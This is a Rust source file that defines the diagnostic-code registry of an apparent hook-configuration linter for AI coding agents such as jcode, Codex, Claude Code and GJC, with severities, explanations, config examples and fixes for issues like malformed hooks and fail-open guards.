//! The one registry of diagnostic codes.
//!
//! Each code is declared once, here, with its severity, a one-line summary and its explanation
//! (the doc comment, with the sections "What it means", "Why it matters", "Example", "How to fix").
//! `hooks explain CODE` prints the explanation and `docs/diagnostics.md` is generated from it.
//! Codes are public API: never renamed, never reused. Add new codes at the end of a section.

use crate::Severity;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::fmt;

macro_rules! codes {
    ($( $(#[doc = $doc:literal])* $variant:ident = $name:literal, $sev:ident, $summary:literal; )*) => {
        /// A diagnostic code. Serialized as its snake_case name.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize, JsonSchema)]
        pub enum Code {
            $(
                #[doc = $summary]
                #[serde(rename = $name)]
                $variant,
            )*
        }

        impl Code {
            /// Every code, in registry order.
            pub const ALL: &'static [Code] = &[$(Code::$variant),*];

            /// The public snake_case name.
            pub const fn as_str(self) -> &'static str {
                match self { $(Code::$variant => $name,)* }
            }

            /// The severity every diagnostic with this code has.
            pub const fn severity(self) -> Severity {
                match self { $(Code::$variant => Severity::$sev,)* }
            }

            /// The one-line summary.
            pub const fn summary(self) -> &'static str {
                match self { $(Code::$variant => $summary,)* }
            }

            /// The raw doc comment (each line keeps rustdoc's leading space).
            const fn raw_explanation(self) -> &'static str {
                match self { $(Code::$variant => concat!($($doc, "\n",)*),)* }
            }
        }
    };
}

impl Code {
    /// Looks a code up by its public name.
    pub fn parse(name: &str) -> Option<Code> {
        Code::ALL.iter().copied().find(|c| c.as_str() == name)
    }

    /// The explanation as Markdown: what it means, why it matters, an example, how to fix.
    pub fn explanation(self) -> String {
        let mut out = String::new();
        for line in self.raw_explanation().lines() {
            out.push_str(line.strip_prefix(' ').unwrap_or(line));
            out.push('\n');
        }
        out
    }
}

impl fmt::Display for Code {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

codes! {
    // ───────────────────────── the nine codes of design.md ─────────────────────────

    /// ## What it means
    /// The event is valid in its convention, but it is none of the six canonical kinds
    /// (`user_prompt_submit`, `pre_tool_use`, `post_tool_use`, `stop`, `session_start`,
    /// `session_shutdown`), so it has no place in the IR. This is a limitation of `hooks`, not a
    /// mistake in the file, so it is an info: `--deny-warnings` passes a valid config.
    /// ## Why it matters
    /// The agent itself still runs the hook, but the runner does not execute it, and
    /// `hooks import` carries it only to an agent with an equivalent event (`PreCompact` ↔
    /// Gemini's `PreCompress`, `SubagentStop`, `PermissionRequest`, …; otherwise
    /// `event_not_in_target`).
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "PreCompact"   # a real Jarvis event, outside the six kinds
    /// command = "./save-transcript.sh"
    /// ```
    /// ## How to fix
    /// Nothing is broken. If the hook must move to an agent without an equivalent event,
    /// re-create it by hand there.
    UnsupportedConventionEvent = "unsupported_convention_event", Info, "A valid event of the convention that is outside the six canonical kinds";

    /// ## What it means
    /// A `gajae-plugin.json` hook names an event the plugin loader does not accept. Plugins may use
    /// only `tool_call` (phase `before`/`after`, with a target), `tool_result` (phase `after`),
    /// `session_start` and `session_shutdown`.
    /// ## Why it matters
    /// GJC rejects the plugin hook; aliases from other conventions (`pre_tool_use`,
    /// `UserPromptSubmit`, `Stop`, `agent_end`) are not translated.
    /// ## Example
    /// ```json
    /// {"name": "guard", "event": "PreToolUse", "target": "bash", "path": "guard.js"}
    /// ```
    /// ## How to fix
    /// Use `"event": "tool_call", "phase": "before"` for a pre-tool hook.
    UnrecognizedPluginEvent = "unrecognized_plugin_event", Error, "A plugin hook names an event plugins cannot register";

    /// ## What it means
    /// A plugin hook's `phase` does not fit its event: `tool_call` needs `before` or `after`,
    /// `tool_result` needs `after`, and `session_start`/`session_shutdown` take no phase at all
    /// (not even `null`).
    /// ## Why it matters
    /// GJC rejects the hook, so it never runs.
    /// ## Example
    /// ```json
    /// {"name": "log", "event": "tool_result", "phase": "before", "path": "log.js"}
    /// ```
    /// ## How to fix
    /// Use the phase the event allows, or remove the `phase` key.
    InvalidPluginPhase = "invalid_plugin_phase", Error, "A plugin hook's phase does not fit its event";

    /// ## What it means
    /// A tool name used as a matcher is not valid: empty, with leading or trailing spaces, `.`,
    /// `..`, or containing `/`, `\` or NUL. `*` is the only wildcard.
    /// ## Why it matters
    /// GJC rejects the hook (`normalizeToolMatcher`), so the guard you meant to install is absent.
    /// ## Example
    /// A file `.gjc/hooks/pre/ bash.js` (leading space) or a plugin `"target": "../bash"`.
    /// ## How to fix
    /// Name the tool exactly, e.g. `bash.js`, or `*.js` for every tool.
    InvalidToolMatcher = "invalid_tool_matcher", Error, "A tool-name matcher is empty, untrimmed, a path or otherwise invalid";

    /// ## What it means
    /// Something in a hook folder cannot be a hook: a directory, a symlink that leaves the hooks
    /// directory, an unreadable file, a file whose name is not UTF-8, a binary or oversized file.
    /// ## Why it matters
    /// The agent skips it or fails on it; either way the hook does not run as intended.
    /// ## Example
    /// `.gjc/hooks/pre/bash.js -> /etc/passwd`
    /// ## How to fix
    /// Keep one regular, readable, UTF-8-named module file per hook inside the hooks directory.
    InvalidSource = "invalid_source", Error, "A file or entry in a hook location cannot be a hook";

    /// ## What it means
    /// The command is empty or cannot be parsed the way the agent parses it (for jcode: a trailing
    /// escape character, an unterminated quote, or nothing left after tokenizing).
    /// ## Why it matters
    /// The agent skips the hook (and a jcode `pre_tool` gate then allows every call).
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tool = "guard --msg 'unterminated"
    /// ```
    /// ## How to fix
    /// Close the quote, remove the trailing backslash, or give a command.
    InvalidCommand = "invalid_command", Error, "A hook command is empty or cannot be parsed";

    /// ## What it means
    /// The same hook is declared twice (same convention, kind, event, matcher and handler).
    /// ## Why it matters
    /// It depends on the agent, and neither is what a copy was meant for. Jarvis and Claude run
    /// an identical command once and GJC keeps the first module, so the second copy, and e.g.
    /// its different timeout, has no effect. jcode and Codex run every copy (Codex 0.171.0 runs
    /// an identical command in two groups twice), so the command runs twice per event.
    /// ## Example
    /// Two `[[hooks]]` entries with `event = "Stop"` and `command = "./check.sh"`.
    /// ## How to fix
    /// Delete the later copy, or merge what differs into the first one.
    DuplicateHook = "duplicate_hook", Warning, "The same hook is declared more than once (ignored or run twice, depending on the agent)";

    /// ## What it means
    /// A GJC module registers an in-process event (`context`, `session_before_compact`,
    /// `auto_retry_start`, ...) that is none of the six canonical kinds.
    /// ## Why it matters
    /// GJC runs it, but it cannot be migrated to another convention, and the runner's
    /// canonical events never trigger it.
    /// ## Example
    /// ```js
    /// export default (api) => { api.on("context", (e) => e) }
    /// ```
    /// ## How to fix
    /// Nothing is broken; keep it GJC-only, or move the logic to one of the mapped events.
    InProcessEventOutsideHookIr = "in_process_event_outside_hook_ir", Warning, "A module registers an in-process event outside the hook IR";

    /// ## What it means
    /// The source names an event whose meaning differs from every canonical kind, or a
    /// conversion would change what the hook means (e.g. GJC `turn_end` fires per turn, not per
    /// agent loop; a target convention has no such event; a Codex directory file not named
    /// `pre-<tool>`/`post-<tool>`).
    /// ## Why it matters
    /// Mapping it anyway would run it at the wrong time; it is rejected instead of silently dropped.
    /// ## Example
    /// ```js
    /// api.on("turn_end", ...)   // not the same as `stop` (agent_end)
    /// ```
    /// ## How to fix
    /// Use the event with the intended meaning (`agent_end` for stop), or keep the hook in its
    /// own convention.
    SemanticMismatch = "semantic_mismatch", Error, "The source's meaning has no faithful equivalent in the IR or target";

    // ───────────────────────── foundation: any convention ─────────────────────────

    /// ## What it means
    /// The file is not valid TOML or JSON.
    /// ## Why it matters
    /// The agent cannot read it: depending on the agent every hook of the file (or the whole
    /// config) is silently ignored.
    /// ## Example
    /// ```toml
    /// [hooks
    /// pre_tool = "guard"
    /// ```
    /// ## How to fix
    /// Fix the syntax error at the position shown.
    ParseError = "parse_error", Error, "The file is not valid TOML or JSON";

    /// ## What it means
    /// The event name is not one the convention defines at all (often a case mistake such as
    /// `pretooluse`, or a name from another agent).
    /// ## Why it matters
    /// Agents silently ignore unknown event names (Codex, Claude) or reject the file (Jarvis):
    /// the hook never fires.
    /// ## Example
    /// ```json
    /// {"hooks": {"preToolUse": [...]}}
    /// ```
    /// ## How to fix
    /// Use the exact name the diagnostic suggests.
    UnknownEvent = "unknown_event", Error, "The event name is not defined by the convention";

    /// ## What it means
    /// A hook file or directory exists but could not be read (permissions, an I/O error, a
    /// symlink loop).
    /// ## Why it matters
    /// The agent cannot read it either, so its hooks do not run.
    /// ## Example
    /// `~/.codex/hooks.json` with mode `000`.
    /// ## How to fix
    /// Fix the permissions or remove the broken entry.
    UnreadableSource = "unreadable_source", Error, "A hook file or directory could not be read";

    /// ## What it means
    /// A value has the wrong type (a number where a string is expected, a table where an array
    /// is expected, ...).
    /// ## Why it matters
    /// For jcode a single type error makes the whole `config.toml` fail to parse and jcode
    /// silently falls back to its defaults: every hook (and every other setting) is off.
    /// Other agents drop the entry or the section.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tool_timeout_ms = "5000"
    /// ```
    /// ## How to fix
    /// Write the value with the type the diagnostic names.
    WrongValueType = "wrong_value_type", Error, "A value has a type the agent cannot accept";

    /// ## What it means
    /// A value outside jcode's `[hooks]` table — in any section of `config.toml` — has a type
    /// jcode's config model does not accept (a string for a boolean, a negative number for an
    /// unsigned one, a word that is none of an option's values, a missing required field).
    /// ## Why it matters
    /// jcode parses the whole file with serde and, on any error, silently falls back to its
    /// default config: every hook of the file is off (and every other setting), while the
    /// file looks fine. `hooks run` runs none of the file's hooks either, as jcode.
    /// ## Example
    /// ```toml
    /// [display]
    /// centered = "yes"      # a boolean: jcode loads none of this file
    ///
    /// [hooks]
    /// pre_tool = "~/bin/guard"
    /// ```
    /// ## How to fix
    /// Write the value with the type the diagnostic names (`centered = true`).
    JcodeConfigRejected = "jcode_config_rejected", Error, "jcode rejects its whole config.toml because of a value's type";

    /// ## What it means
    /// A field that the convention's schema rejects.
    /// ## Why it matters
    /// Jarvis validates `[[hooks]]` strictly: one unknown field drops every hook of the file.
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "Stop"
    /// command = "./check.sh"
    /// timeout_ms = 500
    /// ```
    /// ## How to fix
    /// Remove the field or use the field name suggested.
    UnknownField = "unknown_field", Error, "A field the convention rejects";

    /// ## What it means
    /// A key that the agent silently ignores (no error, no effect), usually a typo.
    /// ## Why it matters
    /// The setting you wrote does nothing and nobody tells you.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tools = "guard"   # jcode ignores it; the gate is not installed
    /// ```
    /// ## How to fix
    /// Use the key suggested, or remove it.
    IgnoredKey = "ignored_key", Warning, "A key the agent silently ignores";

    /// ## What it means
    /// A timeout is outside the range the convention accepts, or not an integer.
    /// ## Why it matters
    /// The agent rejects the entry (Jarvis: the whole hooks section) or uses another value.
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "PreToolUse"
    /// command = "./guard.sh"
    /// timeout = 900   # Jarvis accepts 1..=600 seconds
    /// ```
    /// ## How to fix
    /// Use a value within the bounds named in the message (mind the unit).
    InvalidTimeout = "invalid_timeout", Error, "A timeout is not a valid value for its convention";

    /// ## What it means
    /// A matcher regex does not compile in the convention's dialect (JavaScript for Jarvis and
    /// Claude, Rust `regex` for Codex).
    /// ## Why it matters
    /// Jarvis silently skips the hook; Codex drops the whole matcher group.
    /// ## Example
    /// ```toml
    /// matcher = "Bash("
    /// ```
    /// ## How to fix
    /// Fix the pattern; escape literal parentheses (`Bash\\(`).
    InvalidMatcherRegex = "invalid_matcher_regex", Error, "A matcher regex does not compile in its dialect";

    /// ## What it means
    /// A JavaScript-dialect matcher repeats, without bound, a group that itself holds an
    /// unbounded quantifier (`(a+)+`, `(\w*)*`). Backtracking engines — the agent's JavaScript
    /// engine and this project's runner alike — can take exponential time on such a pattern when
    /// a value almost matches.
    /// ## Why it matters
    /// The matcher runs on every tool call (or prompt): one long tool name or prompt can freeze
    /// the agent before any hook runs.
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "PreToolUse"
    /// matcher = "^(mcp__\w+)+$"
    /// command = "./guard.sh"
    /// ```
    /// ## How to fix
    /// Remove the nesting: `^mcp__\w+$` matches the same names in linear time.
    RegexMayBacktrack = "regex_may_backtrack", Warning, "A JavaScript matcher nests unbounded quantifiers and can backtrack catastrophically";

    /// ## What it means
    /// A matcher is set on an event whose matched value is always empty, or on an event that
    /// ignores matchers.
    /// ## Why it matters
    /// The matcher never filters anything: either the hook never fires (the pattern cannot match
    /// the empty string) or it always fires (the matcher is ignored).
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// event = "Stop"
    /// matcher = "Bash"
    /// ```
    /// ## How to fix
    /// Remove the matcher, or move the hook to an event that has a matched value.
    MatcherHasNoEffect = "matcher_has_no_effect", Warning, "A matcher on an event where it cannot filter";

    /// ## What it means
    /// The matcher is a comma-separated list of names (`Edit, Write`) in a convention that reads
    /// it as one regex: Codex (a Rust `regex` unless the string is only `[A-Za-z0-9_|]`,
    /// `codex-rs/hooks/src/events/common.rs`, Codex 0.171.0), Jarvis (`new RegExp(matcher)`,
    /// Kimi Code `externalHooks/internal/matchHooks.ts`, rev d723cc4) and Gemini CLI
    /// (`new RegExp(matcher)`, `packages/core/src/hooks/hookPlanner.ts`, 0.61.0). Claude Code
    /// reads the same string as a list of exact names (2.1.332: a matcher of only letters,
    /// digits, `_`, `-`, spaces, `,` and `|` is split on `,` and `|`), so it is not reported
    /// there.
    /// ## Why it matters
    /// The regex searches for the whole text, comma and space included, in the tool name: no
    /// tool is called `Edit, Write`, so the hook never fires and the guard you meant is absent.
    /// ## Example
    /// ```json
    /// {"hooks": {"PreToolUse": [{"matcher": "Edit, Write", "hooks": [{"type": "command", "command": "./check.sh"}]}]}}
    /// ```
    /// ## How to fix
    /// Separate the names with `|` (`Edit|Write`). `hooks lint --fix` does it (a safe fix).
    MatcherCommaList = "matcher_comma_list", Warning, "A comma-separated list of names read as one regex matches no tool";

    /// ## What it means
    /// One value in the file has a type or form the agent's loader refuses, and the agent then
    /// loads **no** hook of the file — the valid ones next to it included. Claude Code 2.1.332
    /// drops a settings file's hooks for a `matcher` that is not a string (`null` too), a group
    /// without a `hooks` list, a handler without or with an unknown `type`, a command handler
    /// without `command`, a `timeout` that is not a positive number, a non-boolean `async`, a
    /// non-string `statusMessage`, or an event whose value is not a list. Codex 0.171.0 reads
    /// `hooks.json` with serde (`codex-rs/hooks/src/engine/discovery.rs` `load_hooks_json`:
    /// "failed to parse hooks config", the file skipped): the same mistakes (a `null` matcher
    /// and a group without `hooks` aside, which it accepts), a `timeout` that is not a whole
    /// number of seconds (`1.5`, `-5`), and a known key written twice. Each case is recorded
    /// live next to a valid hook (`docs/conformance.md`, scenarios `schema_*`).
    /// ## Why it matters
    /// A typo in one hook silently disables every guard in the file: nothing tells you, and
    /// the tool calls the other hooks were meant to check run unchecked.
    /// ## Example
    /// ```json
    /// {"hooks": {
    ///   "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./a.sh", "timeout": "30"}]}],
    ///   "PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "./fmt.sh"}]}]}}
    /// ```
    /// (`./fmt.sh` never runs either.)
    /// ## How to fix
    /// Correct the value at the location shown (the other diagnostics there say what is
    /// expected): `"timeout": 30`.
    HooksFileRejected = "hooks_file_rejected", Error, "One invalid value makes the agent load none of the file's hooks";

    // ───────────────────────── jcode and Jarvis (TOML adapters) ─────────────────────────

    /// ## What it means
    /// The program of a jcode hook command (its first word) is neither found on `PATH` nor an
    /// existing file. jcode runs the command directly, expanding only a leading `~/`.
    /// ## Why it matters
    /// Spawning fails: a `pre_tool` gate then fails open (every tool call is allowed) and an
    /// observer silently does nothing. The check uses the `PATH` of the environment `hooks`
    /// runs in, which may differ from the agent's.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tool = "~/bin/gaurd.sh"   # typo: the file is ~/bin/guard.sh
    /// ```
    /// ## How to fix
    /// Fix the path or the program name, install the program, or give an absolute path.
    ProgramNotFound = "program_not_found", Warning, "A hook's program is neither on PATH nor an existing file";

    /// ## What it means
    /// A jcode hook command uses shell syntax (a pipe, `&&`, `;`, a redirect, `$VAR`, a glob,
    /// backticks, or `~` anywhere but the start of the program). jcode runs hook commands
    /// WITHOUT a shell: it splits them into words and executes the first one.
    /// ## Why it matters
    /// The operators reach the program as literal arguments (`|`, `&&`, `$HOME`, `*.rs`), so
    /// the command does something else than it says, or fails.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// post_tool = "jq .tool_name | tee -a ~/tools.log"
    /// ```
    /// ## How to fix
    /// Run it through a shell explicitly: `sh -c 'jq .tool_name | tee -a ~/tools.log'`, or move
    /// the logic into a script.
    ShellSyntaxWithoutShell = "shell_syntax_without_shell", Warning, "A command uses shell syntax but the agent runs it without a shell";

    /// ## What it means
    /// jcode's `pre_tool_timeout_ms` (or `JCODE_HOOK_PRE_TOOL_TIMEOUT_MS`) is `0`. jcode uses
    /// `max(1, value)`, so every `pre_tool` command gets one millisecond.
    /// ## Why it matters
    /// No real command finishes in 1 ms; the gate times out and jcode fails open: every tool
    /// call is allowed and the gate never blocks.
    /// ## Example
    /// ```toml
    /// [hooks]
    /// pre_tool = "guard"
    /// pre_tool_timeout_ms = 0
    /// ```
    /// ## How to fix
    /// Remove the key (default 5000 ms) or give a real budget in milliseconds.
    ZeroTimeout = "zero_timeout", Error, "A timeout of 0 makes every gate time out and fail open";

    /// ## What it means
    /// A `JCODE_HOOK_*` environment variable replaces a value written in `config.toml` (env
    /// overrides always win and are never merged with the file; an empty value disables the slot).
    /// ## Why it matters
    /// The commands in the file for this slot do not run while the variable is set, which is
    /// easy to forget when editing the file.
    /// ## Example
    /// `JCODE_HOOK_PRE_TOOL=""` with `pre_tool = "guard"` in the file: no gate runs.
    /// ## How to fix
    /// Nothing, if intended. Otherwise unset the variable (or lint with `--no-env` to see the
    /// file alone).
    EnvOverrideShadowsFile = "env_override_shadows_file", Info, "An environment override replaces a value from the config file";

    /// ## What it means
    /// `JCODE_HOOKS_DISABLED` is set in the environment (to any value, even empty). jcode then
    /// runs no hook at all; it sets this variable itself for hook processes to stop recursion.
    /// ## Why it matters
    /// Every hook listed is configured but off in an agent started from this environment.
    /// ## Example
    /// `export JCODE_HOOKS_DISABLED=0` — still disables every hook: only presence counts.
    /// ## How to fix
    /// `unset JCODE_HOOKS_DISABLED` before starting jcode.
    HooksDisabledByEnv = "hooks_disabled_by_env", Warning, "An environment variable turns every hook off";

    /// ## What it means
    /// A `JCODE_HOOK_*` variable has a value jcode cannot use as meant: a timeout that is not an
    /// unsigned integer (jcode ignores it and keeps the file's value), or a value starting with
    /// `[` that is not a TOML array of strings (jcode then runs the whole value as one command).
    /// ## Why it matters
    /// The override silently does something else than it says.
    /// ## Example
    /// `JCODE_HOOK_PRE_TOOL_TIMEOUT_MS=5s` or `JCODE_HOOK_PRE_TOOL='[guard, audit]'` (unquoted).
    /// ## How to fix
    /// Write a plain number of milliseconds, or a TOML array of quoted strings:
    /// `JCODE_HOOK_PRE_TOOL='["guard", "audit"]'`.
    InvalidEnvOverride = "invalid_env_override", Warning, "An environment override has a value the agent ignores or misreads";

    /// ## What it means
    /// A `[[hooks]]` entry lacks a field the agent requires (Jarvis: `event` and `command`).
    /// ## Why it matters
    /// Jarvis validates `[[hooks]]` strictly: one invalid entry drops every hook of the file.
    /// ## Example
    /// ```toml
    /// [[hooks]]
    /// command = "./check.sh"   # no event
    /// ```
    /// ## How to fix
    /// Add the missing field.
    MissingField = "missing_field", Error, "A required field is missing";

    // ───────────────────────── GJC, Claude/Codex directories, Codex JSON, plugins ─────────────────────────

    /// ## What it means
    /// Hook files in `.claude/hooks/{pre,post}/` or `.codex/hooks/` were found. GJC discovers them
    /// only for explicit import and diagnostics: no agent session executes them.
    /// ## Why it matters
    /// A guard written there looks installed but never runs.
    /// ## Example
    /// `.claude/hooks/pre/bash.ts` in a project used with GJC.
    /// ## How to fix
    /// Run the import command the message names (`hooks import --from claude-dir --to gjc`), which
    /// writes the canonical `.gjc/hooks/{pre,post}/` copy that GJC does run.
    ImportOnlySource = "import_only_source", Info, "Hook files that are only imported, never executed at runtime";

    /// ## What it means
    /// Names the GJC user hooks directory that was found. GJC's code reads
    /// `~/.gjc/agent/hooks/{pre,post}/`; its docs say `~/.gjc/hooks/{pre,post}/`.
    /// ## Why it matters
    /// Modules in the directory the docs name are not loaded by the current GJC code.
    /// ## Example
    /// Only `~/.gjc/hooks/pre/bash.ts` exists.
    /// ## How to fix
    /// Move the modules to `~/.gjc/agent/hooks/{pre,post}/`, where the code reads them.
    UserHooksDir = "user_hooks_dir", Info, "Which GJC user hooks directory was found";

    /// ## What it means
    /// A GJC directory module does not visibly register the event its folder stands for: a file
    /// in `pre/` without `on("tool_call")`, or in `post/` without `on("tool_result")`. The module
    /// is read as text, never run, so a registration built at runtime is not seen.
    /// ## Why it matters
    /// The tool filter of the file name applies only to that event; without it the module guards
    /// nothing for that tool.
    /// ## Example
    /// ```js
    /// // .gjc/hooks/pre/bash.js
    /// export default (api) => { api.on("tool_result", (e) => e) }
    /// ```
    /// ## How to fix
    /// Register the event of its folder, or move the file to the folder of the event it registers.
    FiledEventNotRegistered = "filed_event_not_registered", Warning, "A directory module does not register the event of its folder";

    /// ## What it means
    /// Hook event keys were written at the top level of a Codex `hooks.json` or a Claude
    /// `settings.json` instead of inside the `"hooks"` object.
    /// ## Why it matters
    /// Both agents read hooks only from the wrapper, and both then refuse more than the
    /// misplaced hooks: Codex 0.171.0 fails to parse the whole file (an unknown top-level key)
    /// and Claude Code 2.1.332 loads none of the file's hooks — the valid ones inside
    /// `"hooks"` included (recorded: `syntax_top_level_event`;
    /// `hooks_file_rejected` is reported with it).
    /// ## Example
    /// ```json
    /// {"Stop": [{"hooks": [{"type": "command", "command": "./check.sh"}]}]}
    /// ```
    /// ## How to fix
    /// Wrap them: `{"hooks": {"Stop": [...]}}`.
    MissingHooksWrapper = "missing_hooks_wrapper", Error, "Hook events outside the required \"hooks\" object (Codex hooks.json, Claude settings)";

    /// ## What it means
    /// A Codex handler has `type` `prompt` or `agent`. Codex skips these handler types in
    /// `hooks.json`; only `command` handlers run.
    /// ## Why it matters
    /// The hook is silently ignored.
    /// ## Example
    /// ```json
    /// {"type": "prompt", "prompt": "Is this safe?"}
    /// ```
    /// ## How to fix
    /// Use a `command` handler.
    UnsupportedHandlerType = "unsupported_handler_type", Warning, "A hooks.json handler type that Codex skips";

    /// ## What it means
    /// A command that GJC recognizes as its own managed hook (`gjc codex-native-hook`) is
    /// registered on an event GJC does not manage. GJC manages only `UserPromptSubmit` and `Stop`.
    /// ## Why it matters
    /// GJC's normalizer rejects it and `gjc setup hooks` does not maintain it; Codex still runs it.
    /// ## Example
    /// ```json
    /// {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "gjc codex-native-hook"}]}]}}
    /// ```
    /// ## How to fix
    /// Remove it and run `hooks setup codex` (or `gjc setup hooks`) to install the managed entries.
    GjcManagedEvent = "gjc_managed_event", Warning, "A GJC-managed command on an event GJC does not manage";

    /// ## What it means
    /// A plugin hook's `path` leaves the plugin root: an absolute path, a `..` component, or a
    /// symlink whose real path is outside the root's real path.
    /// ## Why it matters
    /// GJC realpath-confines plugin code to the installed root and rejects the hook.
    /// ## Example
    /// ```json
    /// {"name": "guard", "event": "tool_call", "target": "bash", "phase": "before", "path": "../x.js"}
    /// ```
    /// ## How to fix
    /// Ship the module inside the plugin and name it relative to the plugin root.
    PathEscapesRoot = "path_escapes_root", Error, "A plugin file path leaves the plugin root";

    /// ## What it means
    /// A file of an installed plugin does not match the SHA-256 recorded in the scope's
    /// `registry.json`, or a recorded file is missing.
    /// ## Why it matters
    /// GJC quarantines the plugin: none of its hooks run.
    /// ## Example
    /// `hooks/guard.js` edited after `gjc plugin install`.
    /// ## How to fix
    /// Reinstall the plugin (or revert the edit) so the registry and the files agree.
    HashDrift = "hash_drift", Error, "A plugin file does not match its recorded SHA-256";

    /// ## What it means
    /// No `registry.json` (or no entry for this plugin) was found for a plugin's scope, so the
    /// file hashes cannot be verified.
    /// ## Why it matters
    /// GJC installs record hashes there; without them drift cannot be detected.
    /// ## Example
    /// A plugin folder copied into `.gjc/gjc-plugins/` by hand.
    /// ## How to fix
    /// Install the plugin with GJC's installer, which writes the registry.
    MissingRegistry = "missing_registry", Warning, "No registry hashes for a plugin";

    /// ## What it means
    /// A `gajae-plugin.json` does not have the shape GJC requires: `kind` must be
    /// `"gajae-code-plugin"`, `name` and `version` strings, `hooks` an array of objects with
    /// string `name`, `event` and `path`.
    /// ## Why it matters
    /// GJC refuses to load the plugin or the hook.
    /// ## Example
    /// ```json
    /// {"kind": "plugin", "name": "guard", "version": "1.0.0", "hooks": []}
    /// ```
    /// ## How to fix
    /// Fix the field the message names.
    InvalidPluginManifest = "invalid_plugin_manifest", Error, "A plugin manifest does not have the required shape";

    /// ## What it means
    /// A shell script (`.sh`, `.bash`, `.zsh`, `.fish`, or a file without a module extension)
    /// was to be copied into `.gjc/hooks/`, where every file is imported as a JavaScript module.
    /// ## Why it matters
    /// GJC would try to `import()` the script and fail to load it.
    /// ## Example
    /// `.claude/hooks/pre/bash.sh` imported into GJC.
    /// ## How to fix
    /// Rewrite the hook as a `.ts`/`.js` module (`export default (api) => api.on("tool_call", ...)`),
    /// or keep it as a command hook of a command convention.
    ShellHookNotModule = "shell_hook_not_module", Error, "A shell-script hook cannot become a GJC module";

    /// ## What it means
    /// A plugin hook module visibly registers something other than exactly one handler for the
    /// event its manifest declares (read from its source, never run). GJC's constrained loader
    /// requires exactly one registration, for the declared event.
    /// ## Why it matters
    /// GJC quarantines the hook at load time (`runtime_mismatch`), so it never runs.
    /// ## Example
    /// ```js
    /// // declared as "event": "tool_call"
    /// export default (api) => { api.on("tool_result", (e) => e) }
    /// ```
    /// ## How to fix
    /// Register exactly one handler, for the declared event, or fix the manifest's `event`.
    PluginRegistrationMismatch = "plugin_registration_mismatch", Error, "A plugin module does not register exactly its declared event";

    /// ## What it means
    /// A plugin hook module calls an API that GJC's constrained plugin API denies: `exec`,
    /// `sendMessage`, `appendEntry`, `registerCommand` or `registerMessageRenderer`.
    /// ## Why it matters
    /// The call throws `security_policy` when it runs: at load (the hook is quarantined) or inside
    /// the handler (the handler fails; for `tool_call/before` that blocks the tool).
    /// ## Example
    /// ```js
    /// export default (api) => { api.on("session_start", () => api.exec("git", ["pull"])) }
    /// ```
    /// ## How to fix
    /// Plugins get only `on` and `logger`; move the work into a native `.gjc/hooks/` module if it
    /// needs the full HookAPI.
    PluginDeniedApi = "plugin_denied_api", Warning, "A plugin module calls an API the constrained plugin API denies";

    // ───────────────────────── runner ─────────────────────────

    /// ## What it means
    /// `hooks run` selected a GJC module hook (directory or plugin) it could not load: a
    /// TypeScript module (`.ts`, `.mts`, `.cts`, `.tsx`) with no Bun to run it —
    /// none configured, none on `PATH`, no `node_modules/.bin/bun` in the project, the
    /// module's folder or a folder above them — and a Node.js too old to strip types; or a
    /// module whose import fails (a syntax error, no default export, a plugin file that fails
    /// its hash check).
    /// ## Why it matters
    /// A module that is not loaded never answers. GJC itself reports such a module and runs
    /// without it, so a guard that does not load lets every tool call through unnoticed. For a
    /// `tool_call` guard `hooks run` therefore fails closed: it prints this error, answers
    /// `block` with the reason and exits 1 — the answer is not what the guard would say. For
    /// an observer (`tool_result`, `session_start`, …) it is a warning and the exit stays 0:
    /// the decision is what the agent answers without it, only its side effects are missing.
    /// Under `hooks bridge` a `tool_call` module with no runtime blocks every call it guards.
    /// `hooks lint` does not report it: under GJC, which runs on Bun, a TypeScript module needs
    /// nothing more, and an import error shows only when the module runs.
    /// ## Example
    /// `.gjc/hooks/pre/bash.ts` with no Bun installed and Node.js 20:
    /// ```text
    /// error[module_not_loaded]: hook `gjc:.gjc/hooks/pre/bash.ts` was not loaded: cannot run
    /// TypeScript hook module …/bash.ts: Bun was not found …
    /// ```
    /// ## How to fix
    /// Install Bun for the project (`npm install --save-dev bun`, which writes
    /// `node_modules/.bin/bun`) or put `bun` on `PATH`; or fix the error the message quotes.
    ModuleNotLoaded = "module_not_loaded", Error, "A module hook cannot be loaded, so its handlers never run";

    // ───────────────────────── CLI: import and setup ─────────────────────────

    /// ## What it means
    /// `hooks import` moved the hook, but the target convention cannot express all of it: a
    /// timeout was rounded up, clamped into the target's bounds or dropped; a gate became an
    /// observer (it can no longer block); something the hook could change (context, the tool
    /// input, a continuation) is ignored by the target; or a regex may match other non-ASCII
    /// names in the target's dialect.
    /// ## Why it matters
    /// The imported hook runs, but not exactly as before. A guard that became an observer no
    /// longer protects anything.
    /// ## Example
    /// A Jarvis `Stop` hook (a gate that can make the agent continue) imported into jcode becomes
    /// a `turn_end` observer, which jcode never waits for.
    /// ## How to fix
    /// Read the message; if the difference matters, keep the hook in a convention that can
    /// express it, or adjust the imported hook by hand.
    LossyConversion = "lossy_conversion", Warning, "An imported hook keeps its meaning only approximately in the target";

    /// ## What it means
    /// The hook was an observer in its source (its exit code was ignored) and is a gate in the
    /// target: there an exit code of 2 blocks the action or makes the agent continue.
    /// ## Why it matters
    /// A script that happens to exit 2 (a failing `grep`, a usage error) starts blocking tool
    /// calls or looping the agent after the import.
    /// ## Example
    /// A jcode `turn_end` observer imported into Jarvis becomes a `Stop` hook; Jarvis reads its
    /// exit code 2 as "continue with this reason".
    /// ## How to fix
    /// Make sure the command exits 0 unless it means to block, e.g. end it with `|| true`.
    ObserverBecomesGate = "observer_becomes_gate", Warning, "An imported hook that could not block now can";

    /// ## What it means
